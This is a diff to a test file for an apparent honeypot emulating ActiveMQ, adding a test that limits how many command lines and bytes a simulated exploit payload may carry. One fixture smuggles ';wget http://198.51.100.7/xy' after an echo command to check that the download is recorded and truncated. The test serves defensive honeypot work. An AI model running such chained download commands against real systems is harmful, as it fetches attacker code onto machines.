@@ -9,7 +9,14 @@ import pytest
 
 from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried
 from eudaemon.protocols._base import Claim, HalfClosed
-from eudaemon.protocols.activemq import FETCHES_MAX, FRAME_BYTES_MAX, FRAMES_MAX, ActiveMq
+from eudaemon.protocols.activemq import (
+    COMMAND_BYTES_MAX,
+    COMMAND_LINES_MAX,
+    FETCHES_MAX,
+    FRAME_BYTES_MAX,
+    FRAMES_MAX,
+    ActiveMq,
+)
 from eudaemon.testing.script import Table, visit
 from eudaemon.world.host import Host
 from eudaemon.world.seed import Seed
@@ -125,6 +132,19 @@ def test_limits() -> None:
     for _ in range(FETCHES_MAX):
         table.answer("failed")
     assert table.over
+
+
+@pytest.mark.parametrize("past", [0, 1])
+def test_commands_have_lines_and_a_length(past: int) -> None:
+    table = talk()
+    table.say(exception(SPRING, URL))
+    table.answer("ok", BEANS % b"\n".join([b"id"] * (COMMAND_LINES_MAX + past)))
+    assert table.facts.count(CommandEntered("id")) == COMMAND_LINES_MAX
+    table = talk()
+    table.say(exception(SPRING, URL))
+    tail = b";wget http://198.51.100.7/xy"
+    table.answer("ok", BEANS % (b"echo ".ljust(COMMAND_BYTES_MAX - len(tail) + past, b"a") + tail))
+    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/x" + "y" * (not past)]
 
 
 def test_whose_first_bytes_they_are() -> None:
